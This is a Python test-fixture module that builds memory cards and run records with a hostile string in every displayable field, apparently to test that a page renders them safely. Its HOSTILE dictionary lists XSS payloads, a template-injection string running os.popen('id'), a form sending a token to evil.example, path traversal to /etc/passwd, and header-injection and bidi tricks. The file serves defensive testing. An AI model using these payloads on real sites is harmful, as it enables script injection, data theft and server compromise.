"""Texts that attack a page, and cards and runs that have one in every field that a page may show."""

from dataclasses import replace
from datetime import UTC, datetime

from wisen.cards import CardEvidence, MemoryCard, MemoryKind, MemoryScope, MemoryStatus, Move, Provenance, Situation
from wisen.records import (
    AttemptRecord,
    Blocked,
    Injection,
    LeftOut,
    ReflectionEvaluation,
    RunRecord,
    Task,
    TokenUsage,
)
from wisen.trial_records import DrawCounts, OpenDraw, Trial

HARMLESS = "plain words"
HOSTILE = {
    "script": "<script>document.title='owned'</script>",
    "image": "<img src=x onerror=\"document.title='owned'\">",
    "svg": "<svg/onload=document.title='owned'><animate onbegin=alert(1) attributeName=x dur=1s>",
    "attribute": '" autofocus onfocus="document.title=\'owned\'" x="',
    "single quote": "' onmouseover='alert(1)' x='",
    "back quote": "` onclick=`alert(1)`",
    "closing tags": "</pre></td></table></textarea></title></style></script><h1>owned</h1>",
    "comment": "--><h1>owned</h1><!-- ]]> <![CDATA[",
    "template": "{{ 7 * 191 }} {% for x in range(3) %}owned{% endfor %} ${7*191} #{7*191} <%= 7*191 %>",
    "template objects": "{{ self.__init__.__globals__ }} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "request": '<div hx-get="/lessons" hx-trigger="load" hx-post="/lessons"></div>',
    "form": '<form action="https://evil.example/" method="post"><input name="token"></form>',
    "frame": '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>">',
    "style": "<style>body{background:url(https://evil.example/a)}</style><link rel=stylesheet href=//evil.example>",
    "link": "javascript:alert(1) [a](javascript:alert(1)) data:text/html;base64,PHNjcmlwdD4=",
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "entities": "&lt;script&gt; &#x3c;script&#x3e; &amp;amp; &bogus; &#0; &#xD800;",
    "path": "../../etc/passwd ..%2f..%2fetc%2fpasswd /?a=b&c=d#e%00",
    "header": "a\r\nSet-Cookie: owned=1\r\n\r\n<h1>owned</h1>",
    "bidi": "abc \u202egnp.exe\u202c \u2066isolate\u2069 \u200fright\u200e \u061c",
    "controls": "a\x00b\x1b[31mred\x07\x08\x7f\x85\u2028\u2029c",
    "unseen": "pass\u200bword \U000e0061\U000e0062 \ufeff\u00ad",
    "combining": "z" + "\u0301" * 100,
    "other letters": "größe 数え עברית العربية \U0001f469\u200d\U0001f469\u200d\U0001f467",
}
LONG = "x" * 100_000
_AT = datetime(2026, 3, 1, 12, tzinfo=UTC)


def card_of(
    text: str, *, status: MemoryStatus = MemoryStatus.QUARANTINED, tenant: str = "", held: bool = False
) -> MemoryCard:
    """A card with the text wherever a card has texts. Its own id is none that a text could change."""
    moved = Move(at=_AT, before=MemoryStatus.CANDIDATE, after=status, why=text, by=text)
    trial = Trial(
        model=text, layout=text, number=1, stage="on trial", first=3, counts=(DrawCounts(shown=9, held_out=8),)
    )
    return MemoryCard(
        kind=MemoryKind.LESSON,
        content=text,
        pattern=text,
        strategy=text,
        steps=(text, text),
        situation=Situation(prompt=text, task_type=text, tools=(text,), error=text),
        scope=MemoryScope(tenant=tenant, agent_roles=(text,), tool_names=(text,), task_types=(text,)),
        status=status,
        provenance=_provenance(text),
        evidence=(CardEvidence(model=text, layout=text, terms=text, gained=3, ties=2),),
        note=text,
        history=(moved,),
        trials=(trial,),
        open_draws=(OpenDraw(id=text, at=_AT, model=text, layout=text, run_id=text),),
        held=(text,) if held else (),
        id="hostile-card",
    )


def other_wording(card: MemoryCard) -> MemoryCard:
    """The same claim once more, as another wording of it."""
    return replace(card, id="hostile-wording", idea=card.id, trials=(), open_draws=())


def rival_of(card: MemoryCard) -> MemoryCard:
    """What can't be right beside it."""
    return replace(card, id="hostile-rival", rivals=(card.id,))


def run_of(text: str, *, tenant: str = "", run_id: str = "hostile-run") -> RunRecord:
    """A run with the text wherever a run has texts, the same lines in both attempts but for one."""
    attempts = tuple(_attempt(text, number) for number in (1, 2))
    return RunRecord(
        run_id=run_id,
        task=Task(
            prompt=text, id=text, type=text, tools=(text,), tenant=tenant, owner=text, choices=(text,), reference=text
        ),
        agent=text,
        architecture=text,
        model=text,
        status="satisfied",
        output=text,
        score=0.9,
        attempts=attempts,
        usage=TokenUsage(requests=2, input_tokens=100, output_tokens=20),
        turns=2,
        started_at=_AT,
        seconds=1.5,
        degradations=(text,),
    )


def _provenance(text: str) -> Provenance:
    return Provenance(
        run_id=text,
        attempt=1,
        trace_id=text,
        created_by=text,
        model=text,
        evaluator=text,
        created_at=_AT,
        agent=text,
        owner=text,
        source=text,
    )


def _attempt(text: str, number: int) -> AttemptRecord:
    return AttemptRecord(
        attempt=number,
        output=f"first\n{text}\nlast {number}",
        did=f"action: look({text})",
        failure=text,
        evaluation=ReflectionEvaluation(
            overall_score=0.4,
            criteria_scores={text: 0.5},
            issues=(text, text),
            suggestions=(text,),
            expected=text,
            evaluator=text,
        ),
        injections=(
            Injection(
                card_id="hostile-card", kind="lesson", reasons=(text, text), score=0.7, idea="hostile-card", draw=text
            ),
            Injection(card_id=text, kind=text, reasons=(text,), score=0.7, shown=False, propensity=0.5),
        ),
        blocked=(Blocked(card_id=text, rules=(text,)),),
        left_out=(LeftOut(card_id=text, why=text),),
        advice_delivered=True,
        lesson_ids=("hostile-card", text),
        used=(text,),
        usage=TokenUsage(requests=1),
        seconds=0.5,
    )
